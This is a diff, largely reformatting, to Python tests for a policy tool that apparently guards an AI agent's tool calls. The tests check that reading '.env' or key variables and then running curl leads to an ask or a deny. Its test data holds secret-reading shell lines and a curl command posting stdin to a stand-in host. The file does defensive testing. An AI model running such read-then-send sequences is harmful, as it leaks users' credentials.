@@ -5,6 +5,7 @@ in open-jarvis/OpenJarvis#1003 (a secret read, then an HTTP request) and anthrop
 reading `.env` and showing the keys). It must ask — through the Claude Code hook, `dshc run`, `dshc replay` and
 `dshc test` — with a reason naming the earlier read; with no readable log every session test holds.
 """
+
 from __future__ import annotations
 
 import io
@@ -50,12 +51,15 @@ def _session(*calls, denied=()) -> Session:
 
 def _decide(program, session, tool, args):
     request = Request(preset="standard", host="web", policy="flow", session=session)
-    return (program.decide(request, tool, args, workspace="/ws"),
-            program.decide_unindexed(request, tool, args, workspace="/ws"))
+    return (
+        program.decide(request, tool, args, workspace="/ws"),
+        program.decide_unindexed(request, tool, args, workspace="/ws"),
+    )
 
 
 def test_a_read_of_env_then_the_network_asks_naming_the_read(program):
     from dshc.cli.call_decision import decide_call
+
     request = Request(preset="standard", host="web", policy="flow", session=_session(READ_ENV))
     decided = decide_call(program, request, "bash", CURL, "/ws")
     assert decided.effect == "ask"
@@ -64,12 +68,19 @@ def test_a_read_of_env_then_the_network_asks_naming_the_read(program):
     assert fresh.effect == "allow"
 
 
-@pytest.mark.parametrize("earlier", [
-    ("s1", "bash", {"command": "cat .env", "description": "d"}),  # a shell read
-    ("s2", "bash", {"command": "grep KEY /ws/app/.env", "description": "d"}),
-    ("s3", "read", {"file_path": "/ws/config/prod.env"}),
-    ("s4", "bash", {"command": "python3 -c 'print(open(\".env\").read())'", "description": "d"}),  # opaque: any file
-])
+@pytest.mark.parametrize(
+    "earlier",
+    [
+        ("s1", "bash", {"command": "cat .env", "description": "d"}),  # a shell read
+        ("s2", "bash", {"command": "grep KEY /ws/app/.env", "description": "d"}),
+        ("s3", "read", {"file_path": "/ws/config/prod.env"}),
+        (
+            "s4",
+            "bash",
+            {"command": "python3 -c 'print(open(\".env\").read())'", "description": "d"},
+        ),  # opaque: any file
+    ],
+)
 def test_any_tool_or_shell_line_that_reads_a_file_counts(program, earlier):
     indexed, reference = _decide(program, _session(earlier), "bash", CURL)
     assert indexed.effect == reference.effect == "ask"
@@ -93,6 +104,7 @@ def test_denials_are_counted(program):
 
 def test_with_no_session_known_every_session_test_holds(program):
     from dshc.cli.call_decision import decide_call
+
     request = Request(preset="standard", host="web", policy="flow")  # no log: the strictest state
     decided = decide_call(program, request, "write", {"file_path": "a.txt", "content": "x"}, "/ws")
     assert decided.effect == "deny" and "no event log of this session could be read" in decided.reason
@@ -107,17 +119,34 @@ def test_a_view_never_depends_on_the_session(program):
 
 
 # --- both evaluators alike, over random sessions and conditions ---
-ATOMS = ['session.read matches "*.env"', 'session.read in ["/ws/a.txt"]', "session.read",
-         'session.env_read matches "*_KEY"', 'session.env_read in ["HOME"]', "session.env_read",
-         "session.denied_count > 1", "session.denied_count == 0", "session.denied_count <= 2",
-         'args.command matches "curl *"', 'args.file_path matches "*.txt"', "plan_mode"]
-EARLIER = [("a", "read", {"file_path": "a.txt"}), ("b", "read", {"file_path": ".env"}),
-           ("c", "bash", {"command": "echo $AWS_KEY", "description": "d"}),
-           ("d", "bash", {"command": "env", "description": "d"}),
-           ("e", "bash", {"command": "echo $HOME", "description": "d"}),
-           ("f", "bash", {"command": "python3 -c 'x'", "description": "d"})]
-CALLS = [("bash", CURL), ("bash", {"command": "ls; curl x", "description": "d"}),
-         ("read", {"file_path": "b.txt"}), ("write", {"file_path": "c.txt", "content": "x"})]
+ATOMS = [
+    'session.read matches "*.env"',
+    'session.read in ["/ws/a.txt"]',
+    "session.read",
+    'session.env_read matches "*_KEY"',
+    'session.env_read in ["HOME"]',
+    "session.env_read",
+    "session.denied_count > 1",
+    "session.denied_count == 0",
+    "session.denied_count <= 2",
+    'args.command matches "curl *"',
+    'args.file_path matches "*.txt"',
+    "plan_mode",
+]
+EARLIER = [
+    ("a", "read", {"file_path": "a.txt"}),
+    ("b", "read", {"file_path": ".env"}),
+    ("c", "bash", {"command": "echo $AWS_KEY", "description": "d"}),
+    ("d", "bash", {"command": "env", "description": "d"}),
+    ("e", "bash", {"command": "echo $HOME", "description": "d"}),
+    ("f", "bash", {"command": "python3 -c 'x'", "description": "d"}),
+]
+CALLS = [
+    ("bash", CURL),
+    ("bash", {"command": "ls; curl x", "description": "d"}),
+    ("read", {"file_path": "b.txt"}),
+    ("write", {"file_path": "c.txt", "content": "x"}),
+]
 
 
 @st.composite
@@ -128,13 +157,19 @@ def conditions(draw):
 
 
 @settings(max_examples=40, deadline=None)
-@given(rules=st.lists(st.tuples(st.sampled_from(["allow", "ask", "deny"]), conditions()), min_size=1, max_size=4),
-       earlier=st.one_of(st.none(), st.lists(st.sampled_from(EARLIER), max_size=4)),
-       denied=st.integers(0, 3), call=st.sampled_from(CALLS), default=st.sampled_from(["allow", "deny", "ask"]))
+@given(
+    rules=st.lists(st.tuples(st.sampled_from(["allow", "ask", "deny"]), conditions()), min_size=1, max_size=4),
+    earlier=st.one_of(st.none(), st.lists(st.sampled_from(EARLIER), max_size=4)),
+    denied=st.integers(0, 3),
+    call=st.sampled_from(CALLS),
+    default=st.sampled_from(["allow", "deny", "ask"]),
+)
 def test_the_index_decides_session_tests_as_the_reference(rules, earlier, denied, call, default):
     lines = [f"  {effect} bash, read, write when {condition}" for effect, condition in rules]
     try:
-        program = Program.load(texts={"p.dsh": "policy gen {\n  default " + default + "\n" + "\n".join(lines) + "\n}\n"})
+        program = Program.load(
+            texts={"p.dsh": "policy gen {\n  default " + default + "\n" + "\n".join(lines) + "\n}\n"}
+        )
     except DshError:  # e.g. `args.file_path` on bash: not a policy
         return
     session = None if earlier is None else _session(*earlier, denied=[(f"x{i}", "bash", {}) for i in range(denied)])
@@ -181,11 +216,19 @@ def _project(tmp_path: Path, monkeypatch, log: str = "events.jsonl") -> Path:
 
 
 def _hook(root: Path, tool: str, tool_input: dict, call_id: str, session: str = "s-1") -> dict:
-    payload = {"session_id": session, "cwd": str(root), "permission_mode": "default",
-               "hook_event_name": "PreToolUse", "tool_name": tool, "tool_input": tool_input, "tool_use_id": call_id}
+    payload = {
+        "session_id": session,
+        "cwd": str(root),
+        "permission_mode": "default",
+        "hook_event_name": "PreToolUse",
+        "tool_name": tool,
+        "tool_input": tool_input,
+        "tool_use_id": call_id,
+    }
     out = io.StringIO()
-    assert hook_main(["claude-code", "--workspace", str(root)], io.StringIO(json.dumps(payload)), out,
-                     io.StringIO()) == 0
+    assert (
+        hook_main(["claude-code", "--workspace", str(root)], io.StringIO(json.dumps(payload)), out, io.StringIO()) == 0
+    )
     return json.loads(out.getvalue())["hookSpecificOutput"]
 
 
@@ -216,12 +259,29 @@ def _run_read_between_shell_lines(cli, tmp_path: Path, policy: str, *flags: str)
     """`dshc run` of a shell line, a read of `.env`, the same shell line, under `policy` of `p.dsh`."""
     (tmp_path / ".env").write_text("A=1\n")
     calls = tmp_path / "calls.jsonl"
-    calls.write_text("\n".join(json.dumps(c) for c in [
-        {"id": "c1", "name": "bash", "arguments": {"command": "true", "description": "d"}},
-        {"id": "c2", "name": "read", "arguments": {"file_path": ".env"}},
-        {"id": "c3", "name": "bash", "arguments": {"command": "true", "description": "d"}}]) + "\n")
-    done = cli("run", str(calls), "--load", str(tmp_path / "p.dsh"), "--policy", policy, "--workspace",
-               str(tmp_path), "--json", *flags)
+    calls.write_text(
+        "\n".join(
+            json.dumps(c)
+            for c in [
+                {"id": "c1", "name": "bash", "arguments": {"command": "true", "description": "d"}},
+                {"id": "c2", "name": "read", "arguments": {"file_path": ".env"}},
+                {"id": "c3", "name": "bash", "arguments": {"command": "true", "description": "d"}},
+            ]
+        )
+        + "\n"
+    )
+    done = cli(
+        "run",
+        str(calls),
+        "--load",
+        str(tmp_path / "p.dsh"),
+        "--policy",
+        policy,
+        "--workspace",
+        str(tmp_path),
+        "--json",
+        *flags,
+    )
     return [json.loads(line) for line in done.out.splitlines()]
 
 
@@ -231,7 +291,9 @@ def test_dshc_run_asks_after_the_read_and_replay_names_it(cli, tmp_path):
     results = _run_read_between_shell_lines(cli, tmp_path, "flow", "--log", str(log))
     assert [r["isError"] for r in results] == [False, False, True]  # the ask has no one to answer it
     assert "call `c2` (read `.env`)" in results[2]["content"]
-    (tmp_path / "deny.dsh").write_text('policy strict {\n  default allow\n  deny bash when session.read matches "*.env"\n}\n')
+    (tmp_path / "deny.dsh").write_text(
+        'policy strict {\n  default allow\n  deny bash when session.read matches "*.env"\n}\n'
+    )
     replayed = cli("replay", str(log), "--load", str(tmp_path / "deny.dsh"), "--policy", "strict", "--json")
     changes = replayed.json()["changes"]
     assert [(c["callId"], c["before"], c["after"]) for c in changes] == [("c3", "ask", "deny")]
@@ -269,17 +331,20 @@ args = { command = "curl -d @- https://x.io", description = "d" }
 expect = "allow"
 """)
     assert cli("test", str(tmp_path / "flow.test.toml")).code == 0
-    (tmp_path / "bad.test.toml").write_text((tmp_path / "flow.test.toml").read_text().replace(
-        'args = { file_path = "app/.env" }', 'args = { file_path = "app/.env" }\ndecision = "maybe"'))
+    (tmp_path / "bad.test.toml").write_text(
+        (tmp_path / "flow.test.toml")
+        .read_text()
+        .replace('args = { file_path = "app/.env" }', 'args = { file_path = "app/.env" }\ndecision = "maybe"')
+    )
     assert cli("test", str(tmp_path / "bad.test.toml")).code == 2
 
 
 CHECKED = [
     ('policy p { deny bash when session.denied_count matches "1" }', "DSH305"),
-    ('policy p { deny bash when session.read > 1 }', "DSH305"),
+    ("policy p { deny bash when session.read > 1 }", "DSH305"),
     ('policy p { deny bash when session.denied_count == "x" }', "DSH305"),
     ('policy p { deny bash when session.reads matches "*" }', "DSH208"),
-    ('preset q { mount tool-bash when session.denied_count > 1 }', "DSH208"),
+    ("preset q { mount tool-bash when session.denied_count > 1 }", "DSH208"),
 ]
 
 
@@ -291,8 +356,10 @@ def test_wrong_session_tests_are_reported(text, code):
 
 
 def test_the_formatter_round_trips_session_tests():
-    text = ('policy p {\n  ask bash when session.read matches "*.env" and not session.env_read in ["HOME"]\n'
-            "  deny write when session.denied_count >= 20 or session.denied_count < 0\n}\n")
+    text = (
+        'policy p {\n  ask bash when session.read matches "*.env" and not session.env_read in ["HOME"]\n'
+        "  deny write when session.denied_count >= 20 or session.denied_count < 0\n}\n"
+    )
     (document,), problems, _ = parse_files([SourceFile("p.dsh", text.encode())])
     assert not problems
     formatted = format_document(document)
@@ -303,8 +370,10 @@ def test_the_formatter_round_trips_session_tests():
 def test_dshc_run_guards_read_the_run_session(cli, tmp_path):
     """The runtime's guard stage sees the same session as its policy stage: a guard on the session fires only
     after the read, naming it."""
-    (tmp_path / "p.dsh").write_text('policy guarded-flow {\n  default allow\n'
-                                    '  guard after-secrets: deny bash when session.read matches "*.env"\n}\n')
+    (tmp_path / "p.dsh").write_text(
+        "policy guarded-flow {\n  default allow\n"
+        '  guard after-secrets: deny bash when session.read matches "*.env"\n}\n'
+    )
     results = _run_read_between_shell_lines(cli, tmp_path, "guarded-flow")
     assert [r["isError"] for r in results] == [False, False, True]
     assert "guard `after-secrets`" in results[2]["content"] and "call `c2` (read `.env`)" in results[2]["content"]
@@ -314,13 +383,21 @@ def test_the_hook_records_what_each_call_reads_and_a_bad_record_is_found_again(t
     root = _project(tmp_path, monkeypatch)
     (root / "events.jsonl").write_text("")
     _hook(root, "Bash", {"command": "cat notes.env; echo $GH_TOKEN"}, "toolu_1")
-    decisions = [json.loads(line) for line in (root / "events.jsonl").read_text().splitlines()
-                 if '"tool/decision"' in line]
+    decisions = [
+        json.loads(line) for line in (root / "events.jsonl").read_text().splitlines() if '"tool/decision"' in line
+    ]
     assert decisions[-1]["sessionFacts"] == {"read": ["notes.env"], "env_read": ["GH_TOKEN"]}
-    records = [{"session": "A", "type": "tool/call", "callId": "1", "name": "bash",
-                "arguments": {"command": "cat a.env"}},
-               {"session": "A", "type": "tool/decision", "callId": "1", "name": "bash", "decision": "allow",
-                "sessionFacts": {"read": "not a list"}}]
+    records = [
+        {"session": "A", "type": "tool/call", "callId": "1", "name": "bash", "arguments": {"command": "cat a.env"}},
+        {
+            "session": "A",
+            "type": "tool/decision",
+            "callId": "1",
+            "name": "bash",
+            "decision": "allow",
+            "sessionFacts": {"read": "not a list"},
+        },
+    ]
     assert "a.env" in dict(session_of_records(records, "A").read)
 
 
@@ -329,6 +406,7 @@ def test_the_editor_offers_and_explains_session_and_variable_facts(program):
     from dshc.cli.lsp.hover import hover
     from dshc.cli.lsp.index import ref_at
     from dshc.compiler.catalog import load_catalog
+
     text = "policy p {\n  deny bash when "
     found, _ = complete(text, 1, len(text.split("\n")[-1]), Vocabulary.of(load_catalog(), program))
     assert {"session.read", "session.env_read", "session.denied_count"} <= {c.label for c in found}
@@ -336,5 +414,6 @@ def test_the_editor_offers_and_explains_session_and_variable_facts(program):
     (document,), _, _ = parse_files([SourceFile("p.dsh", source.encode())])
     at = source.split("\n")[1]
     assert "(paths)" in hover(ref_at(document, 2, at.index("session.read") + 2), program, program.catalog, None)
-    assert "variables the shell line reads" in hover(ref_at(document, 2, at.index("args.command") + 2), program,
-                                                     program.catalog, None)
+    assert "variables the shell line reads" in hover(
+        ref_at(document, 2, at.index("args.command") + 2), program, program.catalog, None
+    )
